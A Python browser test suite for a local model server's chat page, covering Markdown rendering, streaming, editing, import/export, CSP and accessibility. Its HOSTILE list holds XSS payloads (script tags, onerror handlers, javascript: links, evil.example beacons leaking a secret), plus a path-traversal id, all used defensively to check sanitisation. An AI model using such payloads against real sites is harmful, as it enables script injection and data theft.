"""The web page of rdna serve in Chromium: packaging/setup.sh packaging/browser-packages.txt installs it, and without it this suite is skipped.

    serve_browser_test.py [NAME…]
    serve_browser_test.py --pictures docs      writes the pictures that docs/serve.md shows

A grammar that the test adds to the page's requests dictates what the model writes; it comes as any answer does."""
import json
import pathlib
import random
import sys
import unittest

import browser
import serving

TEMPLATE = """{{ bos_token }}{% for m in messages %}{{ m.role }}: {{ m.content }}
{% endfor %}{% if add_generation_prompt %}assistant: {% endif %}{# <think> </think> #}"""

# Markdown, and the HTML that CommonMark and GitHub's tables have for it, without the spaces between blocks.
RENDERED = [
    ("one\ntwo", "<p>one\ntwo</p>"), ("one  \ntwo\\\nthree", "<p>one<br>two<br>three</p>"), ("# a\n## b ##\n####### c", "<h1>a</h1><h2>b</h2><p>####### c</p>"),
    ("#no\n# #", "<p>#no</p><h1></h1>"), ("**b** *i* __b__ _i_ ~~d~~", "<p><strong>b</strong> <em>i</em> <strong>b</strong> <em>i</em> <del>d</del></p>"),
    ("***both***", "<p><strong><em>both</em></strong></p>"), ("*a **b** c*", "<p><em>a <strong>b</strong> c</em></p>"), ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
    ("snake_case_name and 2 * 3 * 4", "<p>snake_case_name and 2 * 3 * 4</p>"), ("*open and **open", "<p>*open and **open</p>"), (r"\*no\* \a", r"<p>*no* \a</p>"),
    ("`a*b*` ``c ` d`` `open", "<p><code>a*b*</code> <code>c ` d</code> `open</p>"), ("`` ` ``", "<p><code>`</code></p>"),
    ("- a\n- b\n  - c\n  - d\n- e", "<ul><li>a</li><li>b<ul><li>c</li><li>d</li></ul></li><li>e</li></ul>"),
    ("3. a\n4. b\n\n   more\n", '<ol start="3"><li><p>a</p></li><li><p>b</p><p>more</p></li></ol>'), ("1. a\n   ```\n   x\n   ```\n2. b", "<ol><li>a<CODE>x</CODE></li><li>b</li></ol>"),
    ("- [x] done\n- [ ] not", '<ul><li class="task"><input type="checkbox" disabled=""> done</li><li class="task"><input type="checkbox" disabled=""> not</li></ul>'),
    ("text\n- a", "<p>text</p><ul><li>a</li></ul>"), ("> a\n> > b\n\nc", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote><p>c</p>"),
    ("a\n\n---\n\n***", "<p>a</p><hr><hr>"), ("```c x\n<b>&amp;\n```\nafter", "<CODE c>&lt;b&gt;&amp;amp;</CODE><p>after</p>"), ("~~~\n```\n~~~", "<CODE>```</CODE>"),
    ("```\nopen\n  end", "<CODE>open\n  end</CODE>"), ("````\n```\n````", "<CODE>```</CODE>"),
    ("|a|b|\n|:-:|--:|\n|1|2 \\| 3|\n|4|", '<TABLE><tr><th class="center">a</th><th class="right">b</th></tr><tr><td class="center">1</td><td class="right">2 | 3</td></tr>'
     '<tr><td class="center">4</td><td class="right"></td></tr></TABLE>'), ("a | b\nc", "<p>a | b\nc</p>"),
    ("[t](https://x.org/a_(b) \"title\") <https://y.org> https://z.org/p, (https://w.org/q).",
     "<p><A https://x.org/a_(b)>t</A> <A https://y.org/>https://y.org</A> <A https://z.org/p>https://z.org/p</A>, (<A https://w.org/q>https://w.org/q</A>).</p>"),
    ("![picture](https://x.org/a.png)", "<p><A https://x.org/a.png>picture</A></p>"), ("[a] [b](", "<p>[a] [b](</p>"),
    ("[x](javascript:alert(1))", "<p><span>x (javascript:alert(1))</span></p>"), ("[x](/v1/models)", "<p><span>x (/v1/models)</span></p>"), ("<b>x</b> &lt;", "<p>&lt;b&gt;x&lt;/b&gt; &amp;lt;</p>"),
]

HOSTILE = ["<script>pwned = 1</script>", "<img src=x onerror='pwned = 1'>", "<svg onload=pwned=1>", "<iframe srcdoc='<script>top.pwned=1</script>'>", "[x](javascript:pwned=1)",
           "[x](JaVaScRiPt:pwned=1)", "[x](java\tscript:pwned=1)", "[x](\x01javascript:pwned=1)", "[x](data:text/html,<script>pwned=1</script>)", "<javascript:pwned=1>",
           "[x](vbscript:pwned)", "[x](file:///etc/passwd)", "[x](//evil.example/x)", "![x](http://evil.example/log?secret)", "[<img src=x onerror=pwned=1>](https://a.b)",
           "```<img src=x onerror=pwned=1>\n</code></pre><script>pwned=1</script>\n```", "| <script>pwned=1</script> | b |\n|-|-|\n| <img src=x onerror=pwned=1> | \"><svg onload=pwned=1> |",
           "# <script>pwned=1</script>", "- <style>*{display:none}</style>", "> <base href='http://evil.example/'>", "`</code><script>pwned=1</script>`",
           "<a href='javascript:pwned=1'>x</a>", "[x](https://a.b/\" onmouseover=\"pwned=1)", "<form action=http://evil.example><input name=key>", "<link rel=stylesheet href=http://evil.example>",
           "**<math><mtext><script>pwned=1</script></mtext></math>**", "&#60;script&#62;pwned=1&#60;/script&#62;", "<meta http-equiv=refresh content='0;url=http://evil.example'>"]
# What Markdown may become: names of elements, and of attributes.
ELEMENTS = set("p br strong em del code a span h1 h2 h3 h4 h5 h6 hr blockquote ul ol li input figure figcaption button pre div table tbody tr th td".split())
ATTRIBUTES = set("href target rel title class type disabled start tabindex".split())

LONG = ["*a ", "**a ", "_a", "`", "`a", "``a`", "[", "[a](", "[a](b", "](", "![", "> ", "- ", "  - a\n", "1. a\n", "|", "|a", "a|b\n-|-\n", "# ", "#", "~", "~~~", "```\n", "\\", "\n", " ", "  \n",
        "<a:", "http://", "h", "***a***b", "*_", "~~a", "-", "- - ", "|-", "\t", "_*_*a", "(", "a*", "a* *b", "[a](http://x.y/(", "![a](b) "]

PICTURE = {"system": "", "question": "Compare a list with a ring buffer, and show me one in C.", "thought": "A table, then code.", "answer": """A **ring buffer** keeps the last *n* values and never moves them:

| Operation | List | Ring buffer |
|:--|--:|--:|
| append | O(1) | O(1) |
| drop the oldest | O(n) | O(1) |

In C it is an array and two numbers:

```c
void push(ring *r, float value) {
  r->values[(r->begin + r->count) % 256] = value;
  if (r->count < 256) r->count++;
  else r->begin = (r->begin + 1) % 256;
}
```

1. With a power of two, `% 256` is a single `and`.
2. For a thread that writes and one that reads, `begin` is the reader's."""}

RENDER = """async (text) => {
    const node = document.createElement('div');
    (await import('/page/markdown.js')).render(node, text);
    return node;
}"""
# Its HTML, with code, tables and links in a short form.
SHORT = """(node) => node.innerHTML
    .replace(/<figure class="code"><figcaption><span>(.*?)<\\/span><button class="copy" type="button">Copy<\\/button><\\/figcaption><pre tabindex="0"><code>([^]*?)<\\/code><\\/pre><\\/figure>/g,
             (_, words, code) => '<CODE' + (words && ' ' + words) + '>' + code + '</CODE>')
    .replace(/<div class="table" tabindex="0"><table>/g, '<TABLE>').replace(/<\\/table><\\/div>/g, '</TABLE>')
    .replace(/<a href="([^"]*)" target="_blank" rel="noopener noreferrer" title="\\1">/g, '<A $1>').replace(/<\\/a>/g, '</A>')
    .replace(/ class=""/g, '')"""


class Page(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = serving.folder_for(cls)
        cls.model = serving.write_model(cls.folder, TEMPLATE)
        cls.server = serving.serve_for(cls, cls.model, "--slots", 2, "--context", 2048)

    def setUp(self):
        self.browser = browser.Browser()
        self.addCleanup(self.browser.close)
        self.browser.open(self.server.url + "/")
        self.browser.wait("document.getElementById('model').value === 'chat'")

    def done(self):
        """Nothing was asked of anybody else, and nothing went wrong unseen."""
        self.assertEqual([url for url in self.browser.requests if not url.startswith((self.server.url + "/", "blob:" + self.server.url))], [])
        self.assertEqual(self.browser.problems, [])

    def dictate(self, text, **settings):
        self.asked = []

        def change(body):
            self.asked.append(dict(body))
            return {**body, **settings, **({"grammar": "root ::= " + json.dumps(text)} if text else {})}
        self.browser.change_requests("*/v1/chat/completions", change)

    def ask(self, text):
        self.browser.evaluate("document.getElementById('text').focus()")
        self.browser.type(text)
        self.browser.press("Enter")

    def finished(self, messages):
        self.browser.wait(f"!document.body.classList.contains('busy') && document.querySelectorAll('.message').length === {messages}", 60)
        return self.messages()

    def messages(self):
        return self.browser.evaluate("[...document.querySelectorAll('.message .body')].map((node) => node.textContent)")

    def facts(self):
        return self.browser.evaluate("[...document.querySelectorAll('.message .facts')].at(-1).textContent")

    # ---- Markdown ----

    def test_markdown(self):
        for text, want in RENDERED:
            with self.subTest(text):
                self.assertEqual(self.browser.evaluate(f"({RENDER})({json.dumps(text)}).then({SHORT})"), want)
        self.done()

    def test_a_text_that_grows_ends_as_one_that_came_at_once(self):
        rng = random.Random(3)
        for _ in range(12):
            text = "\n\n".join(rng.choice(RENDERED)[0] for _ in range(6)).replace("\n\n", "\n" * rng.choice([1, 2]))
            cuts = sorted(rng.randrange(len(text)) for _ in range(20)) + [len(text)]
            same = self.browser.evaluate(f"""(async () => {{
                const {{render}} = await import('/page/markdown.js'), text = {json.dumps(text)}, grown = document.createElement('div'), whole = document.createElement('div');
                for (const cut of {cuts}) render(grown, text.slice(0, cut));
                render(whole, text);
                return grown.innerHTML === whole.innerHTML;
            }})()""")
            self.assertTrue(same, text)

    def test_hostile_texts_stay_texts(self):
        rng = random.Random(4)
        pieces = HOSTILE + ["\n", "\n\n", "[", "](", ")", "`", "```\n", "**", "<", ">", "\"", "- ", "> ", "|", "\n|-|-|\n", "\\", "javascript:", "https://a.b/"]
        texts = HOSTILE + ["".join(rng.choice(pieces) for _ in range(rng.randrange(2, 12))) for _ in range(300)]
        found = self.browser.evaluate(f"""(async () => {{
            const elements = new Set(), attributes = new Set(), schemes = new Set();
            for (const text of {json.dumps(texts)}) {{
                const node = await ({RENDER})(text);
                document.body.append(node);
                for (const child of node.querySelectorAll('*')) {{
                    elements.add(child.localName);
                    for (const attribute of child.attributes) attributes.add(attribute.name);
                    if (child.href) schemes.add(new URL(child.href).protocol);
                }}
                node.remove();
            }}
            await new Promise((resolve) => setTimeout(resolve, 100));
            return [[...elements], [...attributes], [...schemes], window.pwned];
        }})()""")
        self.assertLessEqual(set(found[0]), ELEMENTS)
        self.assertLessEqual(set(found[1]), ATTRIBUTES)
        self.assertLessEqual(set(found[2]), {"http:", "https:", "mailto:"})
        self.assertIsNone(found[3])
        self.done()

    def test_time_grows_with_the_length(self):
        for piece in LONG:
            for before, after in (("", ""), ("# ", "x`"), ("> ", "x")):
                took = self.browser.evaluate(f"""(async () => {{
                    const {{render}} = await import('/page/markdown.js');
                    const time = (count) => {{
                        const text = {json.dumps(before)} + {json.dumps(piece)}.repeat(count) + {json.dumps(after)};
                        const node = document.createElement('div'), begun = performance.now();
                        render(node, text);
                        return performance.now() - begun;
                    }};
                    const count = {15000 // len(piece)}, least = [Infinity, Infinity];
                    // others have the processor now and then: the least of some tries
                    for (let tries = 0; tries < 10 && least[1] >= 12 * Math.max(least[0], 10); tries++)
                        for (const i of [0, 1]) least[i] = Math.min(least[i], time(i ? 4 * count : count));
                    return least;
                }})()""")
                # four times the length: with its square it would be 16 times; of less than 10 ms a clock says little
                self.assertLess(took[1], 12 * max(took[0], 10), (before + piece + after, took))

    # ---- a conversation ----

    def test_chat(self):
        text = "<think>It is a greeting.</think>**Hello**, `you`.\n\n```py\nprint(1)\n```"
        self.dictate(text)
        self.ask("Hi!")
        shown = self.finished(2)
        self.assertEqual(shown, ["Hi!", "Hello, you.pyCopyprint(1)"])
        thoughts = "document.querySelector('.thoughts')"
        self.assertEqual(self.browser.evaluate(f"[{thoughts}.open, {thoughts}.lastChild.textContent, {thoughts}.firstChild.textContent]"), [False, "It is a greeting.", "What it thought"])
        self.browser.click(".thoughts summary")
        self.assertTrue(self.browser.evaluate(f"{thoughts}.open"))
        facts = self.facts()
        self.assertRegex(facts, r"^\d+ tokens · [\d.]+ tokens/s · first after [\d.]+ s · prompt \d+, \d+ of it cached$")
        self.assertIn("% full", self.browser.evaluate("document.getElementById('state').textContent"))
        self.browser.call("Browser.grantPermissions", permissions=["clipboardReadWrite", "clipboardSanitizedWrite"])
        self.browser.click(".copy")
        self.browser.wait("document.querySelector('.copy').textContent === 'Copied'")
        self.assertEqual(self.browser.evaluate("navigator.clipboard.readText()"), "print(1)")
        # what was said goes along, what was thought does not; and is not read again
        self.dictate("Fine.")
        self.ask("And you?")
        self.assertEqual(self.finished(4)[3], "Fine.")
        self.assertEqual(self.asked[0]["messages"], [{"role": "user", "content": "Hi!"}, {"role": "assistant", "content": text.split("</think>")[1]}, {"role": "user", "content": "And you?"}])
        self.assertGreater(int(self.facts().split("prompt ")[1].split(", ")[1].split(" ")[0]), 0)
        # it is there after the browser comes back
        self.browser.open(self.server.url + "/")
        self.assertEqual(self.messages(), ["Hi!", shown[1], "And you?", "Fine."])
        self.done()

    def test_an_answer_comes_in_pieces_and_can_be_stopped(self):
        self.dictate(None, ignore_eos=True, max_tokens=1800)
        self.ask("Go on.")
        length = "document.querySelectorAll('.message .body')[1]?.textContent.length ?? 0"
        self.browser.wait(f"({length}) > 20")
        seen = self.browser.evaluate(length)
        self.browser.wait(f"({length}) > {seen}")
        self.assertEqual(self.browser.evaluate("document.getElementById('send').textContent"), "Stop")
        self.browser.press("Escape")
        kept = self.finished(2)[1]
        self.assertGreater(len(kept), 20)
        self.assertIn("stopped", self.facts())
        self.browser.wait("fetch('/metrics').then((r) => r.text()).then((t) => /rdna_running 0/.test(t))")
        self.assertEqual(self.browser.evaluate("document.getElementById('send').textContent"), "Send")
        self.ask("Again.")
        self.browser.wait("document.querySelectorAll('.message').length === 4 && document.querySelectorAll('.message .body')[3].textContent.length > 5")
        self.browser.click("#send")
        self.finished(4)
        self.done()

    def test_edit_and_retry(self):
        self.dictate("One.")
        self.ask("First?")
        self.finished(2)
        self.dictate("Two.")
        self.ask("Second?")
        self.finished(4)
        self.dictate("Other.")
        self.browser.press("KeyR", alt=True)
        self.assertEqual(self.finished(4), ["First?", "One.", "Second?", "Other."])
        self.browser.evaluate("document.getElementById('text').focus()")
        self.browser.press("ArrowUp")  # what was said last
        self.assertEqual(self.browser.evaluate("document.activeElement.value"), "Second?")
        self.browser.press("Escape")
        self.assertEqual(self.messages(), ["First?", "One.", "Second?", "Other."])
        self.browser.click(".message.assistant button[title^=Edit]", 0)
        self.browser.evaluate("document.querySelector('.edit textarea').select()")
        self.browser.type("Uno.")
        self.browser.press("Enter", ctrl=True)
        self.assertEqual(self.messages(), ["First?", "Uno.", "Second?", "Other."])
        self.browser.click(".message.user button[title^=Edit]", 1)
        self.browser.evaluate("document.querySelector('.edit textarea').select()")
        self.browser.type("Third?")
        self.browser.press("Enter")
        self.assertEqual(self.finished(4), ["First?", "Uno.", "Third?", "Other."])
        self.assertEqual([message["content"] for message in self.asked[-1]["messages"]], ["First?", "Uno.", "Third?"])
        self.browser.click(".message.user button[title^=Ask]", 0)
        self.assertEqual(self.finished(2), ["First?", "Other."])
        self.done()

    def test_settings_reach_the_server(self):
        self.dictate("Yes.")
        self.browser.click("#open-settings")
        for name, value in (("system", "Be brief."), ("temperature", "0.5"), ("top_k", "40"), ("top_p", "0.9"), ("min_p", "0.05"), ("repetition_penalty", "1.1"), ("seed", "7"), ("max_tokens", "50")):
            self.browser.evaluate(f"document.getElementById('{name}').focus()")
            self.browser.type(value)
        self.browser.press("Escape")
        self.browser.wait("!document.getElementById('settings').open")
        self.ask("Hm?")
        self.assertEqual(self.finished(2)[1], "Yes.")
        body = self.asked[0]
        self.assertEqual(body["messages"], [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Hm?"}])
        self.assertEqual({name: body[name] for name in ("temperature", "top_k", "top_p", "min_p", "repetition_penalty", "seed", "max_tokens", "model", "stream")},
                         {"temperature": 0.5, "top_k": 40, "top_p": 0.9, "min_p": 0.05, "repetition_penalty": 1.1, "seed": 7, "max_tokens": 50, "model": "chat", "stream": True})
        self.browser.open(self.server.url + "/")
        self.browser.press("KeyS", alt=True)
        self.assertEqual(self.browser.evaluate("[document.getElementById('system').value, document.getElementById('seed').value]"), ["Be brief.", "7"])
        self.done()

    def test_what_goes_wrong_is_said(self):
        self.dictate(None, max_tokens=3, ignore_eos=True)
        self.ask("word " * 2500)
        self.finished(2)
        error = "[...document.querySelectorAll('.message .error')].at(-1).textContent"
        self.assertIn("context", self.browser.evaluate(error))
        self.browser.press("KeyN", alt=True)
        self.ask("Hm?")
        self.finished(2)
        self.assertIn("cut off", self.browser.evaluate(error))

    def test_conversations(self):
        self.dictate("A.")
        names = "[...document.querySelectorAll('#list .entry button:first-child')].map((node) => node.textContent)"
        for text in ("Alpha", "Beta <b>"):
            self.browser.press("KeyN", alt=True)
            self.ask(text)
            self.finished(2)
        self.assertEqual(self.browser.evaluate(names), ["Beta <b>", "Alpha"])
        self.browser.click("#list .entry button:first-child", 1)
        self.assertEqual(self.messages()[0], "Alpha")
        # the file that is exported
        self.browser.call("Browser.setDownloadBehavior", behavior="allow", downloadPath=str(self.folder), eventsEnabled=True)
        file = self.folder / "rdna-conversations.json"
        self.browser.click("#export")
        for _ in range(500):
            if file.exists() and file.read_text().endswith("}"):
                break
            self.browser.evaluate("new Promise((resolve) => setTimeout(resolve, 20))")
        exported = json.loads(file.read_text())
        self.assertEqual([chat["title"] for chat in exported["conversations"]], ["Beta <b>", "Alpha"])
        # one goes, and comes back with the file, which is not believed
        self.browser.click("#list .entry button:last-child", 1)
        self.browser.wait("document.querySelectorAll('#list .entry').length === 1")
        exported["conversations"][1]["messages"][1]["content"] = HOSTILE[1]
        exported["conversations"][1]["title"] = HOSTILE[1]
        exported["conversations"][1]["id"] = "../../settings"
        for text, said in ((json.dumps(exported), "2 conversations imported"), ("{", "no JSON"), ("[]", "no conversations"), (json.dumps({**exported, "conversations": [1]}), "damaged"),
                           (json.dumps({**exported, "conversations": [{"messages": [{"role": "root", "content": "x"}]}]}), "damaged")):
            file.write_text(text)
            root = self.browser.call("DOM.getDocument")["root"]["nodeId"]
            node = self.browser.call("DOM.querySelector", nodeId=root, selector="#file")["nodeId"]
            self.browser.call("DOM.setFileInputFiles", nodeId=node, files=[str(file)])
            self.browser.wait(f"document.getElementById('state').textContent.includes({json.dumps(said)})")
            self.assertEqual(self.browser.evaluate("document.querySelectorAll('#list .entry').length"), 2)
        self.browser.click("#list .entry button:first-child", self.browser.evaluate(names).index(HOSTILE[1]))
        self.assertEqual(self.messages(), ["Alpha", HOSTILE[1]])
        self.assertIsNone(self.browser.evaluate("window.pwned"))
        self.done()

    def test_a_key_is_asked_for_and_kept_out_of_exports(self):
        server = serving.Server(self.model, "--key", "open sesame")
        self.addCleanup(server.stop)
        self.browser.open(server.url + "/")
        self.browser.wait("document.activeElement.id === 'key'")
        self.browser.type("open sesame")
        self.browser.press("Enter")
        self.browser.wait("document.getElementById('model').value === 'chat'")
        self.dictate("In.")
        self.ask("Hm?")
        self.assertEqual(self.finished(2)[1], "In.")
        self.assertNotIn("sesame", self.browser.evaluate("import('/page/store.js').then((s) => s.exported(s.loadChats()))"))

    def test_the_policy_holds(self):
        other = serving.Server(self.model, "--cors", "*")  # would answer any page
        self.addCleanup(other.stop)
        self.assertEqual(self.browser.evaluate(f"fetch('{other.url}/health').then(() => 'came', () => 'refused')"), "refused")
        self.assertEqual(self.browser.evaluate("fetch('/health').then(() => 'came', () => 'refused')"), "came")
        for way in ("document.body.innerHTML = '<i>x</i>'", "eval('1')", "new Function('return 1')()",
                    "document.head.append(Object.assign(document.createElement('script'), {textContent: 'pwned = 1'}))"):
            self.browser.evaluate(f"try {{ {way} }} catch {{}}")
        self.assertIsNone(self.browser.evaluate("window.pwned"))
        self.assertIsNotNone(self.browser.evaluate("document.getElementById('text')"))
        loaded = self.browser.evaluate(f"""new Promise((resolve) => {{
            const node = new Image();
            node.onload = () => resolve('came'), node.onerror = () => resolve('refused');
            node.src = '{other.url}/page/icon.svg';
        }})""")
        self.assertEqual(loaded, "refused")

    def test_a_narrow_screen(self):
        self.dictate(PICTURE["answer"])
        self.ask("A very long word: " + "x" * 200)
        self.finished(2)
        for width in (320, 390):
            self.browser.resize(width, 700)
            self.browser.wait("getComputedStyle(document.getElementById('side')).visibility === 'hidden'")
            self.assertEqual(self.browser.evaluate("document.documentElement.scrollWidth"), width)
            self.assertLessEqual(self.browser.evaluate("Math.max(...[...document.querySelectorAll('main button, main textarea, .message > *')].map((n) => n.getBoundingClientRect().right))"), width)
            self.browser.click("#open-side")
            self.browser.wait("document.getElementById('side').getBoundingClientRect().left === 0")
            self.browser.press("Escape")
            self.browser.wait("document.getElementById('side').getBoundingClientRect().right <= 0")
        self.done()

    def test_light_and_dark(self):
        ground = "getComputedStyle(document.body).backgroundColor"
        self.browser.prefer("dark")
        dark = self.browser.evaluate(ground)
        self.browser.prefer("light")
        light = self.browser.evaluate(ground)
        self.assertNotEqual(dark, light)
        self.browser.click("#theme")  # light, whatever the system says
        self.browser.prefer("dark")
        self.assertEqual(self.browser.evaluate(ground), light)
        self.browser.click("#theme")
        self.browser.prefer("light")
        self.assertEqual(self.browser.evaluate(ground), dark)
        self.browser.open(self.server.url + "/")
        self.assertEqual(self.browser.evaluate(ground), dark)
        # words can be read on their ground: 4.5 to 1, as WCAG has it
        for scheme in ("light", "dark"):
            self.browser.prefer(scheme)
            self.browser.evaluate("document.documentElement.dataset.theme = ''")
            ratios = self.browser.evaluate("""(() => {
                const value = (name) => {
                    const probe = document.createElement('i');
                    probe.style.color = `var(--${name})`;
                    document.body.append(probe);
                    const rgb = getComputedStyle(probe).color.match(/[\\d.]+/g).slice(0, 3).map((c) => (c /= 255, c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4));
                    probe.remove();
                    return 0.2126 * rgb[0] + 0.7152 * rgb[1] + 0.0722 * rgb[2];
                };
                const ratio = (a, b) => (Math.max(value(a), value(b)) + 0.05) / (Math.min(value(a), value(b)) + 0.05);
                return [['ink', 'ground'], ['faint', 'ground'], ['faint', 'side'], ['ink', 'raised'], ['accent', 'ground'], ['on-accent', 'accent'], ['wrong', 'ground']].map(([a, b]) => ratio(a, b));
            })()""")
            self.assertGreaterEqual(min(ratios), 4.5, (scheme, ratios))

    def test_every_control_has_a_name_and_keys_reach_it(self):
        self.dictate("A.")
        self.ask("Hm?")
        self.finished(2)
        nameless = self.browser.evaluate("""[...document.querySelectorAll('button, input, select, textarea')].filter((n) =>
            !(n.textContent.trim() || n.getAttribute('aria-label') || n.closest('label') || n.title || n.hidden)).map((n) => n.outerHTML)""")
        self.assertEqual(nameless, [])
        reached = set()
        for _ in range(40):
            self.browser.press("Tab")
            reached.add(self.browser.evaluate("document.activeElement.id || document.activeElement.title"))
        self.assertGreaterEqual(reached, {"new", "export", "import", "model", "theme", "open-settings", "text", "send", "Copy the text", "Edit this message", "Another answer"})


def take_pictures(folder):
    """The chat of PICTURE, light, dark and on a phone."""
    case = Page()
    Page.setUpClass()
    try:
        case.setUp()
        for question, thought, answer in (("What is a mutex?", "", "A lock."), (PICTURE["question"], PICTURE["thought"], PICTURE["answer"])):
            case.dictate((f"<think>{thought}</think>" if thought else "") + answer)
            case.browser.press("KeyN", alt=True)
            case.ask(question)
            case.finished(2)
        for name, scheme, size in (("light", "light", (1000, 700)), ("dark", "dark", (1000, 700)), ("phone", "dark", (390, 700))):
            case.browser.prefer(scheme)
            case.browser.resize(*size)
            case.browser.evaluate("document.getElementById('text').focus(); new Promise((resolve) => setTimeout(resolve, 500))")
            case.browser.evaluate("document.getElementById('scroll').scrollTop = " + ("0" if name == "phone" else "1e6"))
            case.browser.screenshot(pathlib.Path(folder) / f"serve-{name}.png")
    finally:
        case.doCleanups()
        Page.doClassCleanups()


if __name__ == "__main__":
    if not browser.PROGRAM:
        print("skipped: there is no Chromium here; packaging/setup.sh packaging/browser-packages.txt installs one")
        raise SystemExit(77)
    if "--pictures" in sys.argv:
        take_pictures(sys.argv[sys.argv.index("--pictures") + 1])
    else:
        unittest.main()
